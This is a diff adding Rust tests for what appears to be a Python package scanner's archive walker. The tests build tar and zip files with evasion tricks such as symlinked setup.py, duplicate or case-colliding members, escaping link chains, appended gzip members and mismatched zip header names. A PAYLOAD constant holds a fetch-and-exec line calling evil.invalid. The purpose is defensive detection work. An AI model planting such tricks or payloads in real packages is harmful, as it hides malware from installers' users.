+    "ÇüéâäàåçêëèïîìÄÅÉæÆôöòûùÿÖÜ¢£¥₧ƒáíóúñÑªº¿⌐¬½¼¡«»░▒▓│┤╡╢╖╕╣║╗╝╜╛┐└┴┬├─┼╞╟╚╔╩╦╠═╬╧╨╤╥╙╘╒╓╫╪┘┌█▄▌▐▀αßΓπΣσµτΦΘΩδ∞φε∩≡±≥≤⌠⌡÷≈°∙·√ⁿ²■\u{a0}";
+
+fn cp437(raw: &[u8]) -> String {
+    let high: Vec<char> = CP437_HIGH.chars().collect();
+    raw.iter().map(|&b| if b < 0x80 { b as char } else { high.get(usize::from(b - 0x80)).copied().unwrap_or('?') }).collect()
 }
 
 #[cfg(test)]
@@ -695,6 +1017,170 @@ mod tests {
             "{}",
             w.uncompressed
         );
+    }
+
+    fn entry(t: &mut tar::Builder<flate2::write::GzEncoder<Vec<u8>>>, kind: tar::EntryType, name: &str, target: &str) {
+        let mut h = tar::Header::new_gnu();
+        h.set_entry_type(kind);
+        h.set_size(0);
+        h.set_mode(0o777);
+        t.append_link(&mut h, name, target).unwrap();
+    }
+
+    fn visited(data: &[u8], name: &str) -> (Walk, Vec<(String, Vec<u8>)>) {
+        let mut seen = Vec::new();
+        let w = walk_bytes(data, name, &WalkLimits::default(), &mut |m| seen.push((m.path.to_string(), m.data.to_vec())));
+        (w, seen)
+    }
+
+    const PAYLOAD: &[u8] = b"exec(urllib.request.urlopen('http://evil.invalid/stage2.py').read())\n";
+
+    #[test]
+    fn a_symlinked_setup_py_is_visited_as_setup_py() {
+        for kind in [tar::EntryType::Symlink, tar::EntryType::Link] {
+            let target = if kind == tar::EntryType::Symlink { "docs/notes.txt" } else { "p-1.0/docs/notes.txt" };
+            let data = tgz_bytes(|t| {
+                file(t, "p-1.0/PKG-INFO", b"Metadata-Version: 2.1\nName: p\nVersion: 1.0\n");
+                file(t, "p-1.0/docs/notes.txt", PAYLOAD);
+                entry(t, kind, "p-1.0/setup.py", target);
+            });
+            let (w, seen) = visited(&data, "p-1.0.tar.gz");
+            assert!(w.complete, "{:?}", w.anomalies);
+            assert!(seen.contains(&("p-1.0/setup.py".to_string(), PAYLOAD.to_vec())), "{kind:?}: {:?}", seen);
+        }
+    }
+
+    #[test]
+    fn a_link_replacing_a_regular_setup_py_makes_the_walk_incomplete() {
+        let data = tgz_bytes(|t| {
+            file(t, "p-1.0/docs/notes.txt", PAYLOAD);
+            file(t, "p-1.0/setup.py", b"from setuptools import setup\nsetup()\n");
+            entry(t, tar::EntryType::Symlink, "p-1.0/setup.py", "docs/notes.txt");
+        });
+        let (w, _) = visited(&data, "p-1.0.tar.gz");
+        assert!(!w.complete);
+        assert!(ids(&w).contains(&"archive-duplicate-member"), "{:?}", w.anomalies);
+    }
+
+    #[test]
+    fn link_chains_out_of_the_tree_make_the_walk_incomplete() {
+        let data = tgz_bytes(|t| {
+            entry(t, tar::EntryType::Symlink, "p-1.0/up", "..");
+            entry(t, tar::EntryType::Symlink, "p-1.0/up2", "up/..");
+            entry(t, tar::EntryType::Symlink, "p-1.0/up3", "up2/..");
+            file(t, "p-1.0/up3/escaped.txt", b"x");
+        });
+        let (w, _) = visited(&data, "p-1.0.tar.gz");
+        assert!(!w.complete);
+        assert!(ids(&w).contains(&"archive-link-outside"), "{:?}", w.anomalies);
+        assert!(ids(&w).contains(&"archive-through-link"), "{:?}", w.anomalies);
+    }
+
+    /// A tar whose end-of-archive blocks are cut off, as one gzip member.
+    fn unterminated_tgz(members: &[(&str, &[u8])]) -> Vec<u8> {
+        let mut t = tar::Builder::new(Vec::new());
+        for (n, d) in members {
+            let mut h = tar::Header::new_gnu();
+            h.set_size(d.len() as u64);
+            h.set_mode(0o644);
+            t.append_data(&mut h, n, *d).unwrap();
+        }
+        let mut raw = t.into_inner().unwrap();
+        raw.truncate(raw.len() - 1024);
+        let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
+        gz.write_all(&raw).unwrap();
+        gz.finish().unwrap()
+    }
+
+    #[test]
+    fn a_second_gzip_member_is_read() {
+        let mut data = unterminated_tgz(&[("p-1.0/PKG-INFO", b"Name: p"), ("p-1.0/setup.py", b"harmless")]);
+        data.extend(tgz_bytes(|t| file(t, "p-1.0/evil.py", PAYLOAD)));
+        let (w, seen) = visited(&data, "p-1.0.tar.gz");
+        assert!(w.complete, "{:?}", w.anomalies);
+        assert!(seen.contains(&("p-1.0/evil.py".to_string(), PAYLOAD.to_vec())), "{:?}", seen);
+        // And a setup.py in the second member replaces the first: a duplicate.
+        let mut data = unterminated_tgz(&[("p-1.0/setup.py", b"harmless")]);
+        data.extend(tgz_bytes(|t| file(t, "p-1.0/setup.py", PAYLOAD)));
+        let (w, seen) = visited(&data, "p-1.0.tar.gz");
+        assert!(!w.complete && ids(&w).contains(&"archive-duplicate-member"), "{:?}", w.anomalies);
+        assert!(seen.contains(&("p-1.0/setup.py".to_string(), PAYLOAD.to_vec())));
+    }
+
+    #[test]
+    fn data_after_the_tar_end_is_an_anomaly_but_zero_padding_is_not() {
+        let one = tgz_bytes(|t| file(t, "p-1.0/a.py", b"x"));
+        let (w, _) = visited(&one, "p-1.0.tar.gz");
+        assert!(w.complete, "{:?}", w.anomalies);
+        // A whole second archive after the end marker: extractors stop at the marker.
+        let mut two = one.clone();
+        two.extend(tgz_bytes(|t| file(t, "p-1.0/evil.py", PAYLOAD)));
+        let (w, _) = visited(&two, "p-1.0.tar.gz");
+        assert!(!w.complete);
+        assert!(ids(&w).contains(&"archive-trailing-data"), "{:?}", w.anomalies);
+        // GNU tar pads to 10 KiB with zeros.
+        let mut padded = tar::Builder::new(Vec::new());
+        let mut h = tar::Header::new_gnu();
+        h.set_size(1);
+        padded.append_data(&mut h, "p-1.0/a.py", &b"x"[..]).unwrap();
+        let mut raw = padded.into_inner().unwrap();
+        raw.resize(10240, 0);
+        let (w, _) = visited(&raw, "p-1.0.tar");
+        assert!(w.complete, "{:?}", w.anomalies);
+    }
+
+    #[test]
+    fn names_that_differ_only_in_case_make_the_walk_incomplete() {
+        let data = tgz_bytes(|t| {
+            file(t, "p-1.0/setup.py", b"harmless");
+            file(t, "p-1.0/SETUP.PY", PAYLOAD);
+        });
+        let (w, _) = visited(&data, "p-1.0.tar.gz");
+        assert!(!w.complete && ids(&w).contains(&"archive-case-collision"), "{:?}", w.anomalies);
+    }
+
+    #[test]
+    fn dot_segments_do_not_hide_an_entry_point() {
+        let data = tgz_bytes(|t| file(t, "p-1.0/./setup.py", PAYLOAD));
+        let (_, seen) = visited(&data, "p-1.0.tar.gz");
+        assert_eq!(seen[0].0, "p-1.0/setup.py");
+    }
+
+    #[test]
+    fn a_zip_member_named_otherwise_in_its_local_header_is_visited_under_both_names() {
+        let mut data = zip_bytes(&[("pkg/helper_0001.py", PAYLOAD)]);
+        // Rename the member in its local header only (the first occurrence).
+        let pos = data.windows(18).position(|w| w == b"pkg/helper_0001.py").unwrap();
+        data[pos..pos + 18].copy_from_slice(b"pkg/zzzzzzzzzz.pth");
+        let (w, seen) = visited(&data, "x-1.0-py3-none-any.whl");
+        assert!(!w.complete);
+        assert!(ids(&w).contains(&"archive-zip-header-mismatch"), "{:?}", w.anomalies);
+        let paths: Vec<&str> = seen.iter().map(|(p, _)| p.as_str()).collect();
+        assert_eq!(paths, vec!["pkg/helper_0001.py", "pkg/zzzzzzzzzz.pth"]);
+    }
+
+    #[test]
+    fn a_zip_unicode_path_field_is_an_alias() {
+        // Central and local name `pkg/__init__.py`, and an Info-ZIP Unicode Path field (which the
+        // zip reader applies, and Python's zipfile ignores) saying `pkg/__INIT__.PY`.
+        let name = b"pkg/__init__.py";
+        let mut field = vec![1u8];
+        field.extend(crc32fast::hash(name).to_le_bytes());
+        field.extend_from_slice(b"pkg/__INIT__.PY");
+        let mut buf = Cursor::new(Vec::new());
+        {
+            let mut z = zip::ZipWriter::new(&mut buf);
+            let mut o = zip::write::FullFileOptions::default().compression_method(zip::CompressionMethod::Stored);
+            o.add_extra_field(0x7075, &field, false).unwrap();
+            z.start_file("pkg/__init__.py", o).unwrap();
+            z.write_all(PAYLOAD).unwrap();
+            z.finish().unwrap();
+        }
+        let (w, seen) = visited(&buf.into_inner(), "x-1.0-py3-none-any.whl");
+        let paths: Vec<&str> = seen.iter().map(|(p, _)| p.as_str()).collect();
+        // The zip reader applies the field: both names are judged and the walk is not complete.
+        assert_eq!(paths, vec!["pkg/__init__.py", "pkg/__INIT__.PY"], "{:?}", w.anomalies);
+        assert!(!w.complete && ids(&w).contains(&"archive-zip-header-mismatch"), "{:?}", w.anomalies);
     }
 
     #[test]
